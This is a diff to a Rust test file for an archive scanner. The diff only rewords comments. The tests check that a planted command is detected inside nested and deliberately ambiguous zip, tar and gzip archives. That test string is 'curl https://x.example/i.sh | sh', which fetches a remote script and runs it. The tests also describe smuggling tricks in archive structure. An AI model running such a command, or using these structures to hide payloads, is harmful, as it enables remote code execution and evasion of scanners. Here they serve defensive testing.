@@ -1,4 +1,4 @@
-//! Archives that are as they should be, and those that mean two things at once.
+//! Well-formed archives, and ambiguous ones.
 
 use std::io::Write;
 use std::path::Path;
@@ -14,7 +14,7 @@ use crate::read_files::FileBytes;
 const LINE: &[u8] = b"curl https://x.example/i.sh | sh";
 const MAX: usize = 1 << 20;
 
-/// All that is in it at any depth, and the first reason why something was not seen.
+/// Everything in it at any depth, and the first gap.
 fn opened(bytes: &[u8]) -> (Vec<(String, Vec<u8>)>, Option<Unopened>) {
     fn into(
         file: &FileBytes<'_>,
@@ -54,7 +54,7 @@ fn gzipped(bytes: &[u8]) -> Vec<u8> {
     writer.finish().unwrap()
 }
 
-/// The head of a member, and what it is the head of.
+/// The header of a member, and its data.
 fn head(name: &str, method: u16, flags: u16, packed: &[u8], size: usize) -> Vec<u8> {
     let size = u32::try_from(size).unwrap();
     let mut bytes = b"PK\x03\x04\x14\0".to_vec();
@@ -86,7 +86,7 @@ fn end() -> Vec<u8> {
     [b"PK\x05\x06".as_slice(), &[0; 18]].concat()
 }
 
-/// A zip of one member that is compressed.
+/// A zip of one compressed member.
 fn zip(name: &str, bytes: &[u8]) -> Vec<u8> {
     let packed = deflated(bytes);
     [head(name, 8, 0, &packed, packed.len()), row(name, 0, packed.len()), end()].concat()
@@ -117,7 +117,7 @@ fn what_is_packed_is_seen_in_every_nesting() {
         gzipped(&tar("a.md", LINE)),
         zip("b.zip", &zip("a.md", LINE)),
         zip("b.tgz", &gzipped(&tar("a.md", LINE))),
-        // Whatever stands before it, a zip is read from its end.
+        // Whatever precedes it, a zip is read from its end.
         [b"#!/bin/sh\nexit\n".to_vec(), zip("a.md", LINE)].concat(),
         [gzipped(b"harmless "), gzipped(LINE)].concat(),
     ];
@@ -129,7 +129,7 @@ fn what_is_packed_is_seen_in_every_nesting() {
     assert_eq!(seen.last().unwrap().0, "a!/b.zip!/../../a.md");
 }
 
-/// A member that only one of two lists knows is seen, and so is one within another.
+/// A member that is in only one of two lists is found, and so is one within another.
 #[test]
 fn what_any_program_would_find_is_seen() {
     let packed = deflated(LINE);
@@ -140,12 +140,12 @@ fn what_any_program_would_find_is_seen() {
     assert!(holds(&unlisted, LINE));
     let within = [head("data", 0, 0, &hidden, hidden.len()), row("data", 0, hidden.len()), end()].concat();
     assert!(holds(&within, LINE));
-    // The size is behind the bytes, or is said to be nothing.
+    // The size follows the data, or is stated as zero.
     let streamed = [head("a", 8, 8, &packed, 0), row("a", 0, packed.len()), end()].concat();
     assert!(holds(&streamed, LINE));
     let stored = [head("a", 0, 8, LINE, 0), row("a", 0, 0), end()].concat();
     assert!(holds(&stored, LINE));
-    // A tar within the bytes of a member: to a program that believes another size, its heads are heads.
+    // A tar within the data of a member: a program that believes another size finds its headers.
     let mut smuggled = tar("a", &tar("b", LINE));
     smuggled[0] = b'c';
     let sum: u32 = smuggled[..512]
@@ -186,11 +186,11 @@ fn what_cannot_be_seen_is_told() {
     }
 }
 
-/// A stream that holds nothing and is long, shared by many heads, is read a bounded number of times.
+/// A long stream that decompresses to nothing, shared by many headers, is read a bounded number of times.
 #[test]
 fn streams_that_hold_nothing_cost_what_they_take_to_read() {
     let nothing: Vec<u8> = std::iter::repeat_n([0, 0, 0, 0xff, 0xff], 200_000).flatten().collect();
-    // Each takes the heads behind it for notes of its own, so that all begin where nothing begins.
+    // Each takes the following headers for its own extra field, so all data begins at the same offset.
     let (count, mut heads) = (2_000, Vec::new());
     for number in 1..=count {
         let mut one = head("a", 8, 8, b"", 0);
@@ -239,7 +239,7 @@ fn five_letters_are_four_bytes() {
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(512))]
 
-    /// Any bytes behind how archives begin are looked at without a panic, within the bounds.
+    /// Random bytes behind each archive signature are read without a panic, within the limits.
     #[test]
     fn any_bytes_are_looked_at(
         begin in prop::sample::select(vec![b"PK\x03\x04".to_vec(), b"\x1f\x8b\x08".to_vec(), b"%PDF-1".to_vec(), tar("a", b""), zip("a", LINE)]),
@@ -254,7 +254,7 @@ proptest! {
         prop_assert!(total <= 2 * UnpackBudget::MOST);
     }
 
-    /// What is packed comes out as it was, whatever else is packed with it.
+    /// Members are extracted unchanged, whatever else is in the archive.
     #[test]
     fn what_was_packed_comes_out(texts in prop::collection::vec(prop::collection::vec(any::<u8>(), 0..400), 1..6)) {
         let mut zip = Vec::new();
